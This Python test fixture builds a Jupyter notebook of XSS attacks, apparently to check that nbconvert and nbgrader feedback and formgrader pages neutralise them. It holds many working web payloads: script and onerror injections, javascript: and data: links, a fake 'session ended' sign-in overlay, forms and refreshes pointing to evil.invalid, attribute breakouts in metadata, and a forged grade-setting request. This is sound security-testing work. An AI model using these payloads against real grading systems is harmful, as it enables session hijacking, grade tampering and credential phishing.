"""A student's notebook that attacks whoever looks at it, one attack a cell, with honest cells between them."""

from __future__ import annotations

import base64
import struct
import zlib
from dataclasses import dataclass, field
from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

EVIL = "http://evil.invalid"
OVERLAY = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"


def pwn(name: str) -> str:
    """Return a script that reports itself, sets a score as formgrader does, and is heard of elsewhere."""
    return (
        f"top.pwned=[].concat(top.pwned||[],'{name}');"
        f"fetch(location.origin+'/formgrader/api/grade/{name}',{{method:'PUT'}})"
    )


def beacon(name: str) -> str:
    return f"{EVIL}/{name}"


@dataclass(frozen=True)
class Attack:
    """A cell that attacks.

    It worked when it put its name into the page's ``pwned``, when an address with its name was asked for, or when its
    `sign`, an expression of JavaScript, is true. `held_in` are the pages on which nothing happens in any case, with
    nbconvert 7.17 and nbgrader 0.9; it is not in the feedback page if nbgrader refuses to make one of it.
    """

    cell: Any
    sign: str = "false"
    held_in: frozenset[str] = frozenset()
    only_in_formgrader: bool = False
    notebook: dict[str, Any] = field(default_factory=dict)


ALWAYS = frozenset({"feedback", "formgrade"})


def fixed(text: str) -> str:
    """Return the sign that an element with a text stands over the page."""
    some = "[...document.querySelectorAll('#notebook *')].some"
    return f"{some}(e => getComputedStyle(e).position === 'fixed' && e.textContent.trim().startsWith('{text}'))"


def linked(scheme: str, text: str) -> str:
    return f"[...document.links].some(a => a.protocol === '{scheme}' && a.href.includes('{text}'))"


def formula(text: str) -> str:
    """Return the sign that MathJax would read a macro that makes a link: it skips `pre`, and elements in a formula."""
    return f"formulas().some(text => /\\\\href.*{text}/.test(text))"


def shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Any:
    return new_code_cell("show()", outputs=[new_output("display_data", data=data, metadata=metadata or {})])


def in_html(markup: str) -> Any:
    return shown({"text/html": markup, "text/plain": "an object"})


def script(name: str) -> str:
    return f"<script>{pwn(name)}</script>"


def on_error(name: str) -> str:
    return f'<img src="x:" onerror="{pwn(name)}">'


def _error(name: str) -> Any:
    bad = f"\x1b[31m{script(name)}{on_error(name)}\x1b[0m"
    return new_code_cell("1/0", outputs=[new_output("error", ename=bad, evalue=bad, traceback=[bad, bad])])


def _graded(grade_id: str) -> Any:
    role = {"grade": False, "locked": False, "solution": True, "task": False, "schema_version": 3}
    return new_code_cell("x = 1", metadata={"nbgrader": {**role, "grade_id": grade_id}})


def _attached(kind: str, unused: str) -> Any:
    cell = new_markdown_cell("![a](attachment:a.png)")
    cell.attachments = {"a.png": {kind: "AAAA"}, unused: {kind: "AAAA"}}
    return cell


def _widget(name: str) -> dict[str, Any]:
    model = {
        "model_name": "HTMLModel",
        "model_module": "x",
        "model_module_version": "1",
        "state": {"value": script(name)},
    }
    state = {"version_major": 2, "version_minor": 0, "state": {"abc": model}}
    return {"widgets": {"application/vnd.jupyter.widget-state+json": state}}


ATTACKS: dict[str, Attack] = {
    "html-script": Attack(in_html(script("html-script"))),
    "html-onerror": Attack(in_html(on_error("html-onerror"))),
    "html-svg": Attack(in_html(f'<svg onload="{pwn("html-svg")}"><text>x</text></svg>')),
    "html-iframe": Attack(in_html(f"<iframe srcdoc=\"<script src='{beacon('html-iframe')}'></script>\"></iframe>")),
    "html-isolated": Attack(
        shown(
            {"text/html": f'<img src="{beacon("html-isolated")}">'},
            {"text/html": {"isolated": True}},
        )
    ),
    "html-link": Attack(in_html(f'<a href="&#9;java&#10;script:{pwn("html-link")}">Look</a>')),
    "html-data-link": Attack(
        in_html(f'<a href="data:text/html,{script("html-data-link")}">Look</a>'), sign=linked("data:", "html-data-link")
    ),
    "html-formgrader-link": Attack(
        in_html('<a href="http://localhost:8888/formgrader?path=/tmp">Look</a>'),
        sign=linked("http:", "formgrader?path=/tmp"),
    ),
    "html-style": Attack(
        in_html("<style>h4 { visibility: hidden }</style>"),
        sign="getComputedStyle(document.querySelector('h4')).visibility === 'hidden'",
    ),
    "html-overlay": Attack(
        in_html(f'<div style="{OVERLAY}">Your session ended: sign in again.</div>'),
        sign=fixed("Your session ended: sign in"),
    ),
    "html-class": Attack(in_html('<div class="navbar-fixed-top">By a class.</div>'), sign=fixed("By a class.")),
    "html-own-id": Attack(
        in_html('<p id="essay-comment">x</p>'),
        only_in_formgrader=True,
        sign="document.getElementById('essay-comment')?.tagName === 'P'",
    ),
    "html-form": Attack(in_html(f'<form action="{beacon("html-form")}" method="post"><button>Go on</button></form>')),
    "html-refresh": Attack(in_html(f'<meta http-equiv="refresh" content="0;url={beacon("html-refresh")}">')),
    "html-object": Attack(in_html(f'<object data="{beacon("html-object")}"></object>')),
    "html-embed": Attack(in_html(f'<embed src="{beacon("html-embed")}">')),
    "html-stylesheet": Attack(in_html(f'<link rel="stylesheet" href="{beacon("html-stylesheet")}">')),
    "html-picture": Attack(in_html(f'<img src="{beacon("html-picture")}">')),
    "html-comment": Attack(in_html(f"<math><mtext><table><mglyph><style><!--</style>{on_error('html-comment')}")),
    "javascript": Attack(
        shown({"application/javascript": pwn("javascript")}),
        held_in=frozenset({"feedback"}),  # that page has no jQuery, which nbconvert's wrapper asks for
    ),
    "widget": Attack(
        shown({"application/vnd.jupyter.widget-view+json": {"model_id": "abc"}, "text/plain": "a widget"}),
        notebook=_widget("widget"),
        sign="document.querySelector('script[type*=widget-view]') !== null",
    ),
    "svg": Attack(
        shown({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn("svg")}"></svg>'}),
        held_in=ALWAYS,  # an image element runs no script
    ),
    "png": Attack(shown({"image/png": f'AAAA" onerror="{pwn("png")}'}), held_in=ALWAYS),
    "png-size": Attack(shown({"image/png": "AAAA"}, {"image/png": {"width": f"1 onerror={pwn('png-size')}"}})),
    "latex": Attack(shown({"text/latex": f"$\\href{{javascript:{pwn('latex')}}}{{x}}$"}), sign=formula("'latex'")),
    "markdown-script": Attack(
        new_markdown_cell(f"Text\n\n{script('markdown-script')}\n\n{on_error('markdown-script')}")
    ),
    "markdown-link": Attack(
        new_markdown_cell("[Look](<javascript:top.pwned=[].concat(top.pwned||[],'markdown-link')>)")
    ),
    "markdown-output": Attack(shown({"text/markdown": f"*x* {on_error('markdown-output')}"})),
    "markdown-latex": Attack(
        new_markdown_cell("So $\\href{javascript:top.pwned=['markdown-latex']}{x}$ follows."),
        sign=formula("markdown-latex"),
    ),
    "attachment": Attack(
        _attached(f'image/png" onerror="{pwn("attachment")}" alt="', f'a" onerror="{pwn("attachment")}.png'),
        held_in=ALWAYS,
    ),
    "error": Attack(_error("error"), held_in=ALWAYS),
    "stream": Attack(
        new_code_cell("print(x)", outputs=[new_output("stream", name="stdout", text=script("stream"))]),
        held_in=ALWAYS,
    ),
    "raw": Attack(new_raw_cell('<div class="navbar-fixed-top">raw</div>'), sign=fixed("raw")),
    "tags": Attack(
        new_code_cell("x", metadata={"tags": ["x navbar-fixed-top"]}),
        sign="document.querySelector('.code_cell.navbar-fixed-top') !== null",
    ),
    "grade-id": Attack(_graded(f'"></textarea>{on_error("grade-id")}<b x="'), only_in_formgrader=True),
    "title": Attack(
        new_markdown_cell("Nothing here."), notebook={"title": f"</title>{script('title')}"}, held_in=ALWAYS
    ),
    "language": Attack(
        new_code_cell("x = 1"),
        notebook={"language_info": {"name": f'"><b>{on_error("language")}'}},
        held_in=ALWAYS,
    ),
    "html-base": Attack(
        in_html(f'<base href="{beacon("html-base")}/">'), sign=f"document.baseURI.startsWith('{EVIL}')"
    ),
}


def picture() -> bytes:
    """Return a small PNG: a blue bar on white."""
    width, height = 240, 60
    rows = b"".join(b"\0" + (b"\x0b\x5c\x8a" * (x := 160) + b"\xff\xff\xff" * (width - x)) for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


PNG = base64.b64encode(picture()).decode()
TABLE = (
    "<div>\n<style scoped>.dataframe tbody tr th { vertical-align: top; }</style>\n"
    '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>beds</th></tr></thead>'
    "<tbody><tr><th>Ward A</th><td>24</td></tr></tbody></table></div>"
)
FIGURE = (
    f'<figure style="margin:0"><img alt="Costs rise with visits." width="240" src="data:image/png;base64,{PNG}">'
    "<details><summary>The numbers as a table</summary><table><tbody><tr><td>1,200</td></tr></tbody></table>"
    "</details></figure>"
)
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="green"/></svg>'
)
HONEST = [
    new_markdown_cell(
        "## My findings\n\nThe ward needs **more** nurses; see [the rule](https://example.org/rule) and "
        "$\\frac{1}{2}$.\n\n| shift | hours |\n|---|---|\n| night | 12 |\n\n```python\nhours = 12\n```"
    ),
    in_html(TABLE),
    in_html(FIGURE),
    shown({"image/png": PNG, "text/plain": "<Figure>"}, {"image/png": {"width": 240, "height": 60}}),
    shown({"image/svg+xml": DRAWING}),
    shown({"text/latex": "$\\displaystyle x^{2}$"}),
    new_code_cell("print(2 < 3)", outputs=[new_output("stream", name="stdout", text="2 < 3 is \x1b[31mTrue\x1b[0m\n")]),
    new_raw_cell("if a < b & c"),
]


def notebook(*, formgrader: bool, attacks: dict[str, Attack] | None = None) -> Any:
    """Return a notebook of honest cells and attacks; see `Attack`."""
    chosen = [a for a in (ATTACKS if attacks is None else attacks).values() if formgrader or not a.only_in_formgrader]
    metadata: dict[str, Any] = {}
    for attack in chosen:
        metadata |= attack.notebook
    return new_notebook(cells=[*HONEST, *(attack.cell for attack in chosen)], metadata=metadata)
